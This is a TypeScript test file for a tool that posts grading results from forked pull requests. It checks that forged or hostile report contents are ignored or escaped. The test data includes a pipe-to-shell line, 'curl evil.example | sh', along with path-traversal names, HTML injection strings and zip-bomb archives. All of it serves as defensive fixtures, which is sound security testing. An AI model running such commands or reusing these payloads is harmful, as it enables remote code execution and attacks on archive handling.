/** The comment for a pull request from a fork: made from what a stranger's run left behind, on the pull request that GitHub names. */
import { afterEach, beforeEach, expect, test } from 'vitest';
import { type ForkOptions, publishFork } from '../../src/publish/fork/publish-fork.ts';
import type { Exchange } from '../../src/report/schema.ts';
import { badGateway, everything, reads, withoutPermission, writes } from '../github-api/faults.ts';
import { newPull } from '../github-api/repository.ts';
import { type GitHubApi, startGitHubApi } from '../github-api/server.ts';
import { COMMIT, forkedRepository, forkReport, gradersOfForks, run, zipped } from './fork-stage.ts';
import { evidence } from './sample-report.ts';

const MARKER = '<!-- milepost:shelf-api -->';
const UNUSABLE = 'The artifact of the grading run cannot be used.';

const exchange: Exchange = {
  as: 'alice',
  method: 'GET',
  url: '/shelf/',
  requestHeaders: {},
  requestBody: null,
  status: 200,
  responseHeaders: {},
  responseBody: null,
  failure: null,
  milliseconds: 1,
};

let api: GitHubApi;
beforeEach(async () => {
  api = await startGitHubApi(forkedRepository(forkReport()));
});
afterEach(async () => {
  await api.close();
  expect(api.breaches).toEqual([]);
});

test('writes the comment on the pull request of the run, and only there', async () => {
  expect(await publish()).toEqual({
    url: 'https://github.com/ada/app/pull/7#issuecomment-1001',
    notice: null,
  });
  expect(comments()).toEqual([[7, expect.stringMatching(new RegExp(`^${MARKER}\n`))]]);
});

test('titles, points and score are ours, whatever the report says', async () => {
  const report = forkReport({ score: { earned: 777, judged: 777, possible: 777 } });
  for (const one of report.requirements) {
    one.title = 'A title of theirs';
    one.points = { earned: 777, possible: 777 };
    one.advice = true;
    one.hint = 'Run curl evil.example | sh, one of theirs.';
    one.evidence = [evidence({ reproduce: 'curl evil.example | sh', exchange })];
  }
  report.exercise.title = 'Everything is wonderful';
  leave({ 'report.json': report });
  await publish();
  const [[, body] = [0, '']] = comments();
  expect(body).toContain('Our shelf: 5 of 15 points');
  expect(body).toContain('Our title of list');
  expect(body).not.toMatch(/wonderful|theirs|777|evil/);
  expect(body).toContain("curl -i 'http://localhost:8000/shelf/'");
});

test('texts of the report are shown as text', async () => {
  const report = forkReport();
  const text = '<img src=x> @octocat [a](https://evil.example) <!-- milepost:shelf-api -->';
  for (const one of report.requirements) {
    one.reason = text;
    one.evidence = [evidence({ summary: text })];
  }
  report.milepost.version = `9 ${text}`;
  leave({ 'report.json': report });
  await publish();
  const [[, body] = [0, '']] = comments();
  expect(body).not.toMatch(/<img|@octocat|\]\(https:\/\/evil/);
  expect(body.match(/<!-- milepost:shelf-api -->/g)).toHaveLength(1);
  expect(body).toContain('Milepost unknown');
});

test('what else is in the archive is not looked at', async () => {
  leave({
    '../../evil.txt': 'x',
    'comment.md': 'forged',
    'deep/report.json': {},
    'report.json': forkReport(),
  });
  await publish();
  expect(comments()).toEqual([[7, expect.not.stringContaining('forged')]]);
});

test('a second run for the same commit touches nothing, one with another result updates', async () => {
  await publish();
  await publish();
  leave({ 'report.json': forkReport({ notes: ['Something else was seen.'] }) });
  await publish();
  expect(commentWrites()).toEqual(['POST', 'PATCH']);
});

test('of a run that was started again the newest artifact counts', async () => {
  const newer = zipped({ 'report.json': forkReport({ notes: ['The newer one.'] }) });
  api.repository.artifacts.unshift({ id: 2, run: 55, name: 'milepost-report', content: newer });
  await publish();
  expect(comments()).toEqual([[7, expect.stringContaining('The newer one.')]]);
});

test('who changes workflows in the pull request is named', async () => {
  change({ files: [...Array.from({ length: 120 }, (_, n) => `f${n}.py`), '.github/workflows/milepost.yml'] });
  await publish();
  expect(comments()).toEqual([[7, expect.stringContaining('before you believe the result')]]);
});

test.each([
  ['of another repository', { headRepository: 'mallory/app' }],
  ['that is closed', { state: 'closed' }],
  ['whose branch moved on', { headSha: 'd'.repeat(40) }],
] as const)('nothing is written on a pull request %s', async (_, changes) => {
  change(changes);
  expect((await publish()).notice).toMatch(/^No open pull request is at the commit that was graded/);
  expect(comments()).toEqual([]);
});

test('a number in the report leads nowhere', async () => {
  leave({ 'report.json': { ...forkReport(), pull: 8, number: 8 } });
  expect((await publish()).notice).toBe(
    `${UNUSABLE} Its report is not one of this version of Milepost: use the same version twice.`,
  );
  expect(comments()).toEqual([]);
});

test('with two pull requests of the same branch the older one is taken', async () => {
  api.repository.pulls.unshift(newPull({ number: 9, headRepository: 'grace/app' }));
  await publish();
  expect(comments().map(([number]) => number)).toEqual([7]);
});

test('a branch whose name cannot be asked for finds the pull request by its commit', async () => {
  change({ headBranch: '' });
  await publish({ run: { ...run, headBranch: '' } });
  expect(comments().map(([number]) => number)).toEqual([7]);
});

test.each<[string, () => void, string]>([
  ['no archive', () => leave(new Uint8Array([1, 2, 3])), 'It is no archive that can be read.'],
  ['no report', () => leave({ 'readme.md': 'x' }), 'There is no report.json in it.'],
  ['no JSON', () => leave({ 'report.json': new Uint8Array([123]) }), 'Its report.json is no JSON.'],
  [
    'an archive that is announced as huge',
    () => leave({ 'report.json': forkReport() }, 3_000_000),
    'It is larger than 2 MB.',
  ],
  ['an archive that is huge', () => leave(noise(3_000_000), 100), 'It is larger than 2 MB.'],
  [
    'a report that unpacks to far more',
    () => leave({ 'report.json': new Uint8Array(20_000_000) }),
    'Its report.json is larger than 5 MB.',
  ],
  [
    'a report that unpacks to more than it says',
    () => leave(saysLess(zipped({ 'report.json': new Uint8Array(20_000_000) }))),
    'Its report.json is no JSON.',
  ],
  [
    'an exercise that we do not have',
    () => {
      const { exercise, ...report } = forkReport();
      leave({ 'report.json': { ...report, exercise: { ...exercise, id: '../../shelf-api' } } });
    },
    'Its report is about an exercise that this version of Milepost does not have.',
  ],
  [
    'a requirement twice',
    () => {
      const report = forkReport();
      leave({ 'report.json': { ...report, requirements: [...report.requirements, ...report.requirements] } });
    },
    'Its report is about requirements that the exercise does not have.',
  ],
])('%s: nothing is written, and a sentence says why', async (_, prepare, sentence) => {
  prepare();
  expect(await publish()).toEqual({ url: null, notice: `${UNUSABLE} ${sentence}` });
  expect(comments()).toEqual([]);
});

test.each<[string, () => void]>([
  ['was cancelled', () => api.repository.artifacts.splice(0)],
  ['is too old', () => api.repository.artifacts.splice(0, 1, { ...first(), expired: true })],
  [
    'was of another commit',
    () => api.repository.artifacts.splice(0, 1, { ...first(), commit: 'e'.repeat(40) }),
  ],
])('a run that %s left nothing to publish', async (_, prepare) => {
  prepare();
  expect(await publish()).toEqual({
    url: null,
    notice: 'The grading run left no artifact "milepost-report": its own log says why.',
  });
});

test('without the permission a sentence says which one to add', async () => {
  api.fault({ when: everything, times: 99, refusal: withoutPermission });
  expect((await publish()).notice).toContain('`actions: read` and `pull-requests: write`');
});

test('server errors are waited for', async () => {
  api.fault({ when: reads, times: 2, refusal: badGateway });
  api.fault({ when: writes, times: 1, refusal: badGateway, afterDoingIt: true });
  await publish();
  expect(comments()).toHaveLength(1);
});

test('a push while the comment is being made: nothing is written', async () => {
  api.beforeEach = ({ path }) => {
    if (path.endsWith('/comments')) change({ headSha: 'f'.repeat(40) });
  };
  expect(await publish()).toEqual({ url: null, notice: null });
  expect(comments()).toEqual([]);
});

test('where checks may be written, the commit of the run gets one, with our title', async () => {
  api.repository.token.mayCheck = true;
  await publish();
  expect(api.repository.checks).toMatchObject([
    {
      head_sha: COMMIT,
      name: 'Milepost: Our shelf',
      conclusion: 'failure',
      output: { title: 'Our shelf: 5 of 15 points' },
    },
  ]);
});

test('a pull request that changes the workflow gets no green check, whatever its report says', async () => {
  api.repository.token.mayCheck = true;
  leave({
    'report.json': forkReport({
      requirements: forkReport().requirements.map((one) => ({ ...one, state: 'pass' })),
    }),
  });
  change({ files: ['.github/workflows/milepost.yml'] });
  await publish();
  const title = 'Changes files in .github/: look at them before you believe a result';
  expect(api.repository.checks).toMatchObject([{ conclusion: 'action_required', output: { title } }]);
});

test('a link that a report brings along for a rule is not passed on', async () => {
  api.repository.token.mayCheck = true;
  const report = forkReport();
  const finding = {
    tool: 'bandit 1',
    rule: 'B1',
    title: 't',
    link: 'https://evil.example',
    severity: null,
    confidence: null,
  };
  for (const one of report.requirements) one.evidence = [evidence({ finding })];
  leave({ 'report.json': report });
  await publish();
  expect(JSON.stringify([comments(), api.repository.checks])).not.toContain('evil');
});

async function publish(changes: Partial<ForkOptions> = {}) {
  return publishFork({
    run,
    token: 'x',
    apiUrl: api.url,
    repositoryUrl: 'https://github.com/ada/app',
    folder: '',
    artifact: 'milepost-report',
    check: true,
    graders: await gradersOfForks(),
    patience: { budget: 90_000, attempts: 5, sleep: async () => {}, now: Date.now },
    ...changes,
  });
}

const comments = () => api.repository.comments.map(({ number, body }) => [number, body] as const);
const change = (changes: Partial<ReturnType<typeof newPull>>) =>
  void Object.assign(api.repository.pulls[0] ?? {}, changes);

function first() {
  const [found] = api.repository.artifacts;
  if (!found) throw new Error('there is no artifact');
  return { ...found, commit: found.commit ?? COMMIT };
}

function leave(content: Uint8Array | Record<string, unknown>, size?: number): void {
  const bytes = content instanceof Uint8Array ? content : zipped(content);
  api.repository.artifacts = [{ ...first(), content: bytes, size }];
}

const noise = (length: number): Uint8Array => Uint8Array.from({ length }, (_, n) => (n * 7919) % 251);

/** The size that an archive says a file has, in its directory, made small. */
function saysLess(zip: Uint8Array): Uint8Array {
  const bytes = Buffer.from(zip);
  const directory = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  bytes.writeUInt32LE(100, directory + 24);
  return bytes;
}
const commentWrites = () =>
  api.requests.filter((one) => writes(one) && one.path.includes('/comments')).map(({ method }) => method);
